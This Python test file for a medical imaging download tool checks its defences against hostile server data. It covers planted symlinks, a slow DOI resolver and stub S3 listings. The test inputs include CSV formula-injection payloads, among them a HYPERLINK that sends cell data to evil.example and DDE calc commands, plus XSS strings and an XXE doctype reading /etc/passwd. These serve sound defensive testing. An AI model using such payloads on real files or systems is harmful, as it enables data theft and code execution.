"""What a server (or another user of a shared folder) puts in the values the tool writes:
symbolic links planted at the names the tool writes, a DOI resolver that trickles, formulas,
HTML, control characters and huge values in the metadata, and S3 listings with a DTD or with
objects larger than listed. Each goes through td.main against a fake
(tests/fakes/fake_nbia.py, a stub S3 here) and checks what lands on disk and in the log."""
from __future__ import annotations

import contextlib
import csv
import http.server
import io
import os
import re
import threading
import time
from datetime import datetime, timedelta
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from tcia_dl import cli, errors, net
from tcia_dl.sources import idc
from helpers import (PATIENTS, WITHOUT_THE_INDEX_PACKAGE, Run, _NoNbia, archive_members,
                     expected_folders, series_folders)

PRECIOUS = b"precious: not the tool's to write\n"


def tree_run(tmp_path: Path, fake, *extra: str) -> Run:
    return Run(tmp_path, fake, *extra, compression=False)


def metadata_table(path: Path) -> list[list[str]]:
    """metadata.csv as rows of cells, read with a field size limit big enough for it."""
    limit = csv.field_size_limit()
    csv.field_size_limit(max(limit, path.stat().st_size))
    try:
        return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    finally:
        csv.field_size_limit(limit)


def unneutralised(cell: str) -> str:
    """The rule a reader of metadata.csv applies to get the server's value back."""
    return cell[1:] if cell.startswith("'") else cell


# -- symbolic links at the names the tool writes -----------------------------------------------

def test_links_planted_at_the_incoming_names_are_replaced_not_followed(tmp_path,
                                                                      fake_nbia_factory):
    fake = fake_nbia_factory()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_bytes(PRECIOUS)
    root = tmp_path / "out" / "DEMO"
    root.mkdir(parents=True)
    (root / ".LICENSE.incoming").symlink_to(outside / "victim")
    (root / ".MD5SUMS.incoming").symlink_to(outside / "created")       # dangling
    run = tree_run(tmp_path, fake)
    assert run.code == errors.EXIT_OK, run.log
    assert (outside / "victim").read_bytes() == PRECIOUS
    assert sorted(os.listdir(outside)) == ["victim"]
    for name in ("LICENSE", "CITATION.md", "metadata.csv", "MD5SUMS"):
        assert (root / name).is_file() and not (root / name).is_symlink(), name
        assert not (root / f".{name}.incoming").exists()
    assert "LICENSE" in (root / "MD5SUMS").read_text()


@pytest.mark.parametrize("name", ["DEMO.tar.xz.lock", "DEMO.tar.xz.part"])
def test_a_link_planted_at_the_lock_or_the_part_is_refused(tmp_path, fake_nbia_factory, capsys,
                                                           name):
    fake = fake_nbia_factory()
    victim = tmp_path / "victim"
    victim.write_bytes(PRECIOUS)
    output = tmp_path / "out"
    output.mkdir()
    (output / name).symlink_to(victim)
    run = Run(tmp_path, fake)
    err = capsys.readouterr().err
    assert run.code == errors.EXIT_USAGE, run.log
    assert "Traceback" not in err
    assert f"{output / name} is a symbolic link" in err
    assert victim.read_bytes() == PRECIOUS
    assert (output / name).is_symlink()              # left for the user to look at
    assert fake.counters.requests("getImage") == 0


def test_a_link_planted_at_a_log_name_is_refused(tmp_path, fake_nbia_factory, capsys):
    fake = fake_nbia_factory()
    victim = tmp_path / "victim"
    victim.write_bytes(PRECIOUS)
    logs = tmp_path / "cache" / "logs"
    logs.mkdir(parents=True)
    now = datetime.now()
    for second in range(-1, 6):                 # the names a run starting now can choose
        stamp = (now + timedelta(seconds=second)).strftime("%Y-%m-%d_%H-%M-%S")
        for suffix in ("info", "debug"):
            (logs / f"{stamp}-{suffix}.log").symlink_to(victim)
    run = Run(tmp_path, fake)
    err = capsys.readouterr().err
    assert run.code == errors.EXIT_USAGE
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert "is a symbolic link" in err
    assert victim.read_bytes() == PRECIOUS


# -- a DOI resolver that trickles ----------------------------------------------------------------

class Trickle(http.server.ThreadingHTTPServer):
    """Answers every request with 200 and a BibTeX body of about `size` bytes, one byte per
    interval, as HTTP/1.0 (the connection ends with the answer)."""

    daemon_threads = True

    def __init__(self, interval: float, size: int = 1000):
        self.interval, self.size, self.asked = interval, size, 0
        self.stop = threading.Event()
        super().__init__(("127.0.0.1", 0), TrickleHandler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.stop.set()
        self.shutdown()
        self.server_close()


class TrickleHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        server: Trickle = self.server                   # type: ignore[assignment]
        server.asked += 1
        body = b"@misc{x, title = {" + b"t" * server.size + b"}}"
        self.send_response(200)
        self.send_header("Content-Type", "application/x-bibtex")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        for byte in body:
            if server.stop.wait(server.interval):
                return
            try:
                self.wfile.write(bytes([byte]))
                self.wfile.flush()
            except OSError:
                return

    def log_message(self, *args) -> None:
        pass


def test_a_trickling_doi_resolver_holds_the_run_no_longer_than_the_deadline(
        tmp_path, fake_nbia_factory):
    fake = fake_nbia_factory(instances=1)
    resolver = Trickle(interval=0.5)
    try:
        started = time.monotonic()
        run = Run(tmp_path, fake, "--patient", "PANCREAS_0001", "PANCREAS_0002",
                  "--doi-resolver", f"http://127.0.0.1:{resolver.server_address[1]}/",
                  "--doi-timeout", "3", "--stall-timeout", "60", collection="Pancreas-CT",
                  compression=False)
        elapsed = time.monotonic() - started
    finally:
        resolver.close()
    assert run.code == errors.EXIT_OK, run.log
    assert resolver.asked >= 1
    assert "DOI links only" in run.log or "no more time for BibTeX" in run.log
    citation = next((tmp_path / "out" / "Pancreas-CT").glob("CITATION*.md")).read_text()
    assert "```" not in citation and "<https://doi.org/10.7937/k9/tcia.2016.tnb1kqbu>" in citation
    # the download itself takes a few seconds; the stall window (60 s here) cannot end the
    # lookup in time: only the deadline does
    assert elapsed < 3 + 10, elapsed


def test_a_trickle_on_a_connection_the_server_closes_is_still_a_stall():
    """http.client lets go of the socket once it has the headers of an answer that closes
    the connection, and reads the body through its file: the watchdog must watch it on."""
    import requests
    server = Trickle(interval=0.05, size=200)            # 10 s for the whole body
    watchdog = net.TransferWatchdog(1.0, threading.Event())
    session = net.watched_session(requests.Session(), watchdog, "test")
    try:
        started = time.monotonic()
        received = 0
        # A cut read ends in an error, or (the socket shut down under it) in an early end
        # of the body, which http.client may take for the end that "close" announces: either
        # way the watchdog says it cut the transfer, long before the 10 s of the trickle.
        with contextlib.suppress(requests.RequestException):
            with session.get(f"http://127.0.0.1:{server.server_address[1]}/", stream=True,
                             timeout=(5, 5)) as response:
                for chunk in response.iter_content(8192):
                    received += len(chunk)
        assert time.monotonic() - started < 5 and received < 200
        assert watchdog.cut_reason() is not None
    finally:
        session.close()
        watchdog.close()
        server.close()


# -- formulas, HTML, control characters and huge values in the metadata --------------------------

FORMULAS = {
    "SeriesDescription": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "ProtocolName": "+1+cmd|' /C calc'!A0",
    "Manufacturer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ManufacturerModelName": "-2+3+cmd|' /C calc'!A0",
    "SoftwareVersions": "\t=1+1",
    "StudyDesc": "\r=1+1",
    "BodyPartExamined": "'=already quoted",
}


def test_formulas_in_metadata_csv_are_neutralised_and_the_rule_gives_them_back(
        tmp_path, fake_nbia_factory):
    def hook(rows: list[dict]) -> list[dict]:
        rows[0].update(FORMULAS)
        rows[0]["=evil column"] = "x"
        rows[1]["ManufacturerModelName"] = "-12.5"            # a number: left as it is
        for row in rows[4:6]:
            row["PatientID"] = "+1"                   # the folder, in Path, starts with +
        return rows

    fake = fake_nbia_factory(series_rows_hook=hook)
    run = tree_run(tmp_path, fake)
    assert run.code == errors.EXIT_OK, run.log
    header, *rows = metadata_table(tmp_path / "out" / "DEMO" / "metadata.csv")
    path = header.index("Path")
    for cell in [*header, *(c for row in rows for n, c in enumerate(row) if n != path)]:
        assert not re.match(r"[=+@\t\r]", cell), repr(cell)
        assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), repr(cell)
    records = [dict(zip(map(unneutralised, header), map(unneutralised, row))) for row in rows]
    uid = fake.series("DEMO")[0]["SeriesInstanceUID"]
    first = next(r for r in records if r["SeriesInstanceUID"] == uid)
    for key, value in FORMULAS.items():          # a CR is a newline: see td.csv_value
        assert first[key] == value.replace("\r", "\n"), key
    assert first["=evil column"] == "x"
    assert "-12.5" in [r["ManufacturerModelName"] for r in records]
    assert "+1" in [r["PatientID"] for r in records]
    # Path is the tool's: letters, digits, ._+- and / only, never a formula of consequence,
    # so it is written as it is and --verify finds the folder it names
    assert any(row[header.index("Path")].startswith("+1/") for row in rows)
    assert cli.main(["--verify", str(tmp_path / "out"), "--cache_dir", str(tmp_path / "v")]) == 0


def test_control_characters_in_metadata_keys_never_reach_metadata_csv(tmp_path,
                                                                      fake_nbia_factory):
    def hook(rows: list[dict]) -> list[dict]:
        rows[0]["Bad\x00Key"] = "nul in the key"
        rows[0]["Esc\x1b[31mKey\nline"] = "escape in the key"
        rows[0]["ProtocolName"] = "nul\x00in the value\nand a newline"
        return rows

    fake = fake_nbia_factory(series_rows_hook=hook)
    run = tree_run(tmp_path, fake)
    assert run.code == errors.EXIT_OK, run.log
    data = (tmp_path / "out" / "DEMO" / "metadata.csv").read_bytes()
    assert b"\x00" not in data and b"\x1b" not in data
    header, *rows = metadata_table(tmp_path / "out" / "DEMO" / "metadata.csv")
    assert not [key for key in header if re.search(r"[\x00-\x1f\x7f]", key)], header
    assert "Bad\\x00Key" in header and "Esc\\x1b[31mKey\\nline" in header
    values = {v for row in rows for v in row}
    assert "nul in the key" in values and "escape in the key" in values
    assert "nulin the value\nand a newline" in values     # a newline is legal CSV, quoted


def test_a_200000_character_value_is_kept_whole(tmp_path, fake_nbia_factory):
    huge = "v" * 200_000

    def hook(rows: list[dict]) -> list[dict]:
        rows[0]["ProtocolName"] = huge
        return rows

    fake = fake_nbia_factory(series_rows_hook=hook)
    run = tree_run(tmp_path, fake)
    assert run.code == errors.EXIT_OK, run.log
    header, *rows = metadata_table(tmp_path / "out" / "DEMO" / "metadata.csv")
    column = header.index("ProtocolName")
    assert huge in [row[column] for row in rows]


HOSTILE_CITATION = {
    "DataDescriptionURI": "javascript:alert(1)",
    "LicenseName": "<script>alert(2)</script> [click](javascript:alert(3)) & `code` *b*",
    "LicenseURI": "javascript:alert(4)",
}
HOSTILE_DOI = {
    "DataDescriptionURI": "https://doi.org/10.1234/x><img src=x onerror=alert(5)>",
    "LicenseName": "CC BY 4.0",
    "LicenseURI": "https://example.org/a b<c>",
}


def test_html_and_javascript_links_from_the_server_never_become_markup_in_citation_md(
        tmp_path, fake_nbia_factory):
    def hook(rows: list[dict]) -> list[dict]:
        rows[0].update(HOSTILE_CITATION)
        rows[1].update(HOSTILE_DOI)
        return rows

    fake = fake_nbia_factory(series_rows_hook=hook)
    run = Run(tmp_path, fake)
    assert run.code == errors.EXIT_OK, run.log
    assert series_folders(archive_members(run.output / "DEMO.tar.xz")) == expected_folders(fake)
    run = tree_run(tmp_path / "tree", fake)
    assert run.code == errors.EXIT_OK, run.log
    text = (tmp_path / "tree" / "out" / "DEMO" / "CITATION.md").read_text()
    outside_code = text.split("```")[0]
    # the only angle brackets open autolinks to http(s) URLs without spaces or brackets
    assert not re.search(r"(?<!\\)<(?!https?://[^\s<>]+>)", outside_code), text
    assert not re.search(r"(?<!\\)>", re.sub(r"<https?://[^\s<>]+>", "", outside_code)), text
    assert not re.search(r"(?<!\\)[\[\]`&]", outside_code), text
    assert "javascript:" not in "".join(re.findall(r"<[^>]*>", outside_code))
    assert "\\<script\\>alert(2)\\</script\\>" in text           # shown, as text
    assert "javascript:alert(1)" in text and "javascript:alert(4)" in text


# -- S3 listings with a DTD, objects larger than listed ----------------------------------------

class _StubS3(http.server.BaseHTTPRequestHandler):
    """A bucket of server.count objects of 10 bytes each (as listed). server.kind "dtd":
    the listing declares an entity that its keys use; "larger": every object is 20 bytes."""

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        path = urlsplit(self.path).path
        if path.strip("/").count("/"):                        # /<bucket>/<key>: an object
            self.server.objects += 1
            self.answer(b"0123456789" * 2)
            return
        self.server.lists += 1
        prefix = parse_qs(urlsplit(self.path).query)["prefix"][0]
        dtd = self.server.kind == "dtd"
        keys = [f"{'&p;' if dtd else prefix}{n}.dcm" for n in range(self.server.count)]
        body = (('<?xml version="1.0"?>\n'
                 f'<!DOCTYPE ListBucketResult [<!ENTITY p "{prefix}">]>\n' if dtd else "") +
                "<ListBucketResult>" + "".join(
                    f"<Contents><Key>{k}</Key><Size>10</Size><ETag>\"{'0' * 32}\"</ETag>"
                    "</Contents>" for k in keys) +
                "<IsTruncated>false</IsTruncated></ListBucketResult>").encode()
        self.answer(body)

    def answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def stub_s3_run(tmp_path: Path, kind: str) -> tuple[Run, http.server.ThreadingHTTPServer]:
    from fakes.fake_s3 import rows as series_rows
    row = series_rows("prostate_3t", patient_ids=PATIENTS[:1])[0]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _StubS3)
    server.kind, server.count, server.lists, server.objects = kind, row["instanceCount"], 0, 0
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        run = Run(tmp_path, _NoNbia(), "--mode", "idc", "--patient", PATIENTS[0],
                  "--idc-endpoint", f"http://127.0.0.1:{server.server_address[1]}",
                  "--retries", "2", collection="Prostate-3T")
    finally:
        server.shutdown()
        server.server_close()
    return run, server


@pytest.fixture
def idc_index(request, monkeypatch):
    """The index the IDC tests use on this Python (see tests/test_idc.py)."""
    pytest.importorskip("duckdb")
    if WITHOUT_THE_INDEX_PACKAGE:
        from fakes.fake_s3 import write_snapshot_index
        monkeypatch.setenv("TCIA_IDC_INDEX",
                           write_snapshot_index(request.getfixturevalue("tmp_path_factory")
                                                .mktemp("idc-index")))


def test_a_listing_with_a_dtd_is_refused_before_it_is_parsed(tmp_path, idc_index):
    run, server = stub_s3_run(tmp_path, "dtd")
    assert run.code == errors.EXIT_INCOMPLETE, run.log
    assert "declares a DTD" in run.log
    assert server.objects == 0 and server.lists == 2              # each attempt: one page


def test_a_dtd_is_refused_whatever_it_declares():
    for body in (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
                 b"<!doctype a SYSTEM 'file:///etc/passwd'><a/>",
                 b"<a/><!ENTITY x 'y'>"):
        with pytest.raises(errors.TransientError, match="declares a DTD"):
            idc.parse_list_page(body)


def test_messages_name_an_object_key_once(tmp_path, idc_index):
    run, server = stub_s3_run(tmp_path, "larger")
    assert run.code == errors.EXIT_INCOMPLETE, run.log
    logs = "".join(p.read_text() for p in run.cache.glob("logs/*-debug.log"))
    lines = [line for line in logs.splitlines() if "more bytes than its listed" in line]
    assert lines, logs
    for line in lines:
        keys = re.findall(r"[0-9a-f-]{36}/\d+\.dcm", line)
        assert len(keys) == 1, line
